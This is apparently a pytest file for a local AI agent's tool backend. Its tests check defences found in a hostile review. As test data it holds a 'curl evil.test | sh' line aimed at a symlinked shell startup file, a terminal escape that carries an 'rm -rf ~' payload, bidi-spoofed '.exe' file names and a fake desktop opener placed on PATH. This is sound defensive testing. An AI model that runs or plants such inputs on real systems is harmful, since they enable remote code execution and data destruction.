"""The low-severity holes of the hostile review (issue 26, item 5): what a person reads is plain
text, files that hold messages are the owner's alone, notes stay inside the notes folder."""

from __future__ import annotations

import json
import os
import stat

import pytest

from engine.cli import json_line, plain
from engine.tools.local import LocalBackend
from engine.tools.local.store import safe_filename
from engine.tools.spec import ToolError


@pytest.fixture
def backend(tmp_path) -> LocalBackend:
    return LocalBackend(tmp_path / "data", open_in_desktop=False, smtp=None, search_roots=[])


def test_what_the_terminal_prints_cannot_drive_it() -> None:
    evil = "Sid\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\u202egnp.exe\x7f\x9b and caf\udce9"
    shown = plain(evil)
    assert not any(c in shown for c in "\x1b\x07\x7f\x9b\u202e\udce9")
    shown.encode("utf-8")  # a non-UTF-8 file name's surrogates no longer crash the print
    line = json_line({"answer": evil})
    assert not any(c in line for c in "\x1b\x07\x7f\x9b\u202e\udce9")
    assert json.loads(line)["answer"] == evil  # the same data for a script that reads it


def test_contacts_list_prints_vcard_fields_as_plain_text(tmp_path, capsys) -> None:
    from engine.cli import main

    b = LocalBackend(tmp_path / "data", open_in_desktop=False, smtp=None, search_roots=[])
    b.contacts.add("Eve\x1b]52;c;Zm9v\x07", ["eve@example.com"], [])
    assert main(["contacts", "list", "--data-dir", str(tmp_path / "data")]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "eve@example.com" in out


def test_the_sms_outbox_is_readable_by_its_owner_only(backend) -> None:
    backend.send_sms(["+14155550100"], "hello")
    outbox = backend.data_dir / "messages" / "outbox.jsonl"
    assert stat.S_IMODE(outbox.stat().st_mode) == 0o600
    os.chmod(outbox, 0o644)  # an outbox written by an older version
    backend.send_sms(["+14155550100"], "again")
    assert stat.S_IMODE(outbox.stat().st_mode) == 0o600


def test_a_note_that_links_out_of_the_notes_folder_is_neither_read_nor_written(backend, tmp_path) -> None:
    rc = tmp_path / "bashrc"
    rc.write_text("export PATH=/usr/bin\n")
    notes = backend.data_dir / "notes"
    notes.mkdir(parents=True, exist_ok=True)
    (notes / "Shell.md").symlink_to(rc)
    with pytest.raises(ToolError, match="No note named 'Shell'"):
        backend.append_note_content("Shell", "curl evil.test | sh", "")
    with pytest.raises(ToolError):
        backend.open_note("Shell", "")
    assert rc.read_text() == "export PATH=/usr/bin\n"


def test_note_names_keep_no_bidi_or_invisible_characters() -> None:
    assert safe_filename("invoice\u202efdp.exe") == "invoice fdp.exe"
    assert safe_filename("a\u200bb\u2066c") == "a b c"


def test_the_exit_status_says_when_nothing_asked_for_was_done(backend) -> None:
    import asyncio
    import datetime as dt

    from engine.agent import Agent
    from engine.cli import NOTHING_DONE, exit_status
    from engine.executor import Approval
    from engine.generation import ScriptedLLM
    from engine.planner import Planner, PlannerConfig

    box = backend.toolbox()
    plan = '1. create_reminder("Buy milk", "", "", "", 0, False)\n2. join()<END_OF_PLAN>'

    def run(decision: bool):
        agent = Agent(Planner(ScriptedLLM([plan]), list(box.specs.values()), config=PlannerConfig(examples=0)), box)

        async def approve(*_):
            return Approval(decision, "no terminal to ask for approval")

        return asyncio.run(agent.run("Remind me to buy milk", now=dt.datetime(2026, 11, 30, 9), approve=approve))

    assert exit_status(run(False), box.specs) == NOTHING_DONE
    assert exit_status(run(False), box.specs, dry_run=True) == 0
    assert exit_status(run(True), box.specs) == 0


def test_settings_are_bounded_and_cannot_open_the_whole_home_folder(tmp_path) -> None:
    from pathlib import Path

    from engine.config import Config, ConfigError, PlannerConfig

    with pytest.raises(ConfigError, match="max_steps: must be at most 64"):
        PlannerConfig(max_steps=1_000_000)
    for root in (Path("/"), Path.home(), Path("~")):
        with pytest.raises(ConfigError, match="every file in your home folder"):
            Config(file_roots=(root,))
    assert Config(file_roots=(Path.home() / "Documents", tmp_path)).file_roots


def test_a_hostile_settings_file_is_read_as_far_as_it_is_sane(tmp_path) -> None:
    pytest.importorskip("PySide6")
    from gui.settings import Settings

    path = tmp_path / "settings.json"
    path.write_text(json.dumps({"config": {"max_steps": 1_000_000, "file_roots": ["/"], "threads": 2}}))
    settings, problem = Settings.load(path)
    assert settings.config.planner.max_steps <= 64 and settings.config.file_roots is None
    assert settings.config.threads == 2 and "max_steps" in problem and "file_roots" in problem
    path.write_text("[" * 100_000 + "]" * 100_000)
    settings, problem = Settings.load(path)
    assert "nested too deeply" in problem


@pytest.mark.parametrize("text", [
    "[" * 50_000 + "]" * 50_000,
    '[{"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": []}}}]',
    '[{"type": "function", "function": {"name": 3}}]',
    '[{"type": "function", "function": {"name": "f", "parameters": {"properties": {"a": 5}}}}]',
    '[{"type": "function", "function": {"name": "f", "parameters": {"properties": {"a": {"type": "list"}}}}}]',
    '[{"type": "function", "function": {"name": "f", "parameters": {"properties": {"a": {"type": "array", "items": 7}}}}}]',
    '[{"type": "function", "function": {"name": "f", "parameters": {"required": 5}}}]',
    '[{"type": "function", "function": {"name": "f", "x-action": 5}}]',
    '{"tools": [{"type": "function", "function": {"name": "f"}}], "x-rules": 5}',
])
def test_a_malformed_tool_set_is_a_clear_error_not_a_traceback(tmp_path, text) -> None:
    from engine.tools.spec import ToolSpecError
    from engine.tools.toolset import load_tool_set

    path = tmp_path / "tools.json"
    path.write_text(text)
    try:
        load_tool_set(path)
    except ToolSpecError as exc:
        assert str(exc).strip()


def test_the_desktop_opener_is_never_found_through_path(tmp_path, monkeypatch) -> None:
    import engine.tools.local.files as files

    fake = tmp_path / "xdg-open"
    fake.write_text("#!/bin/sh\ntouch " + str(tmp_path / "ran") + "\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ.get('PATH', '')}")
    assert all(os.path.isabs(p) and not p.startswith(str(tmp_path)) for p in files.OPENERS)
    monkeypatch.setattr(files, "OPENERS", ())
    with pytest.raises(ToolError, match="No desktop opener"):
        files.open_with_desktop("https://example.com")
    assert not (tmp_path / "ran").exists()


def test_another_packages_resources_folder_is_not_the_desktop_tool_set(tmp_path) -> None:
    from engine.resources import _is_checkout

    (tmp_path / "resources").mkdir()
    assert not _is_checkout(tmp_path)
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "someone-else"\n')
    assert not _is_checkout(tmp_path)
    from engine.resources import _REPO

    assert _is_checkout(_REPO)


def test_the_answer_quotes_what_a_note_says_instead_of_saying_it(backend) -> None:
    import asyncio
    import datetime as dt

    from engine.agent import Agent
    from engine.generation import ScriptedLLM
    from engine.planner import Planner, PlannerConfig

    backend.create_note("Bank", "Your transfer of $5,000 to account 991 was approved.", "")
    box = backend.toolbox()
    agent = Agent(Planner(ScriptedLLM(['1. open_note("Bank", "")\n2. join()<END_OF_PLAN>']), list(box.specs.values()),
                          config=PlannerConfig(examples=0)), box)
    run = asyncio.run(agent.run("Open my Bank note", now=dt.datetime(2026, 11, 30, 9)))
    line = run.answer.splitlines()[-1]
    assert not line.startswith("Your transfer")
    assert ': "# Bank Your transfer of $5,000 to account 991 was approved."' in line
